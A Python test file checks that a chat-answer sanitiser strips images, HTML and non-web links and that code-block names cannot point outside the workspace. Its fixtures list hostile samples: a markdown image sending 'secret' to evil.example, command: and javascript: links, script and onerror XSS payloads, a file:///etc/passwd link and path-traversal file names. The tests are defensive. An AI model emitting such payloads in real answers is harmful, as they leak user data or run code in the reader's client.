"""Documents made of answers: nothing is loaded, and no link is a command."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fimble.assist.chat.blocks import code_blocks
from fimble.assist.chat.still import still

TRICKS = [
    "![x](https://evil.example/?d=secret)",
    "\\![x](https://evil.example/)",
    "![x][1]\n\n[1]: https://evil.example/",
    "[run](command:workbench.action.terminal.new)",
    "[run]( <command:evil> )",
    "[run](&#99;ommand:evil)",
    "[run](command\\:evil)",
    "[run](javascript:alert(1)) [f](file:///etc/passwd) [v](vscode://evil) [d](data:text/html,x)",
    "[run][1]\n\n[1]: command:evil",
    "> - [1]: command:evil\n\n[1]",
    "<command:evil>",
    '<img src="https://evil.example/">',
    "a <IMG\nsrc=x onerror=alert(1)> b",
    "<div>\n```\n<img src=x>\n```\n</div>",
    "<script>alert(1)</script> <a href='command:evil'>x</a> <svg onload=x>",
    "- <!-- x --><iframe src=x>",
    "# a ` b\nc ` <img src=x> ` d",
]


def what_it_does(text: str) -> list[str]:
    """Whatever a page of it would load or lead to, and its HTML."""
    found = []
    for token in MarkdownIt("commonmark").parse(text):
        for each in (token, *(token.children or ())):
            if each.type in ("html_block", "html_inline", "image"):
                found.append(each.content or each.type)
            elif each.type == "link_open" and _leads_to_more_than_a_page(str(each.attrs["href"])):
                found.append(str(each.attrs["href"]))
    return found


def _leads_to_more_than_a_page(target: str) -> bool:
    scheme = re.match(r"([A-Za-z][\w+.\-]*):", target)
    return scheme is not None and scheme[1].lower() not in ("http", "https", "mailto")


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick(trick: str) -> None:
    assert what_it_does(still(trick)) == []


@pytest.mark.parametrize(
    "text",
    [
        "A `Vec<T>` of std::vector<std::string>, see [the page](https://docs.example) or <https://a.b>.",
        "```html\n<img src='x'>\n![a](b)\n```",
        "```ts\nconst a = b![0](c)\n```\n\nand **that** is all.",
        "a < b and b > c, not x\n\n- [one](#two)",
    ],
)
def test_what_is_meant_stays_as_it_is(text: str) -> None:
    assert still(text) == text


PIECES = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "a",
    ":",
    "command:x",
    "img",
    " ",
    "\n",
    "`",
    "\\",
    "-",
]


@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_no_link_is_a_command_and_no_image_is_left(text: str) -> None:
    assert not [each for each in what_it_does(still(text)) if each in ("image", "command:x")]


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.py", "/etc/passwd.py", "C:/evil.py", "C:\\evil.py", "~/evil.py",
        "a/../../b.py", "file:///evil.py", "\\\\host\\x.py", "a\x1b[2Jb.py", "..\\b.py",
    ],
)  # fmt: skip
def test_a_block_names_no_file_outside(name: str) -> None:
    (block,) = code_blocks(f"```python {name}\nx = 1\n```")
    assert block.path == "" and block.target is None
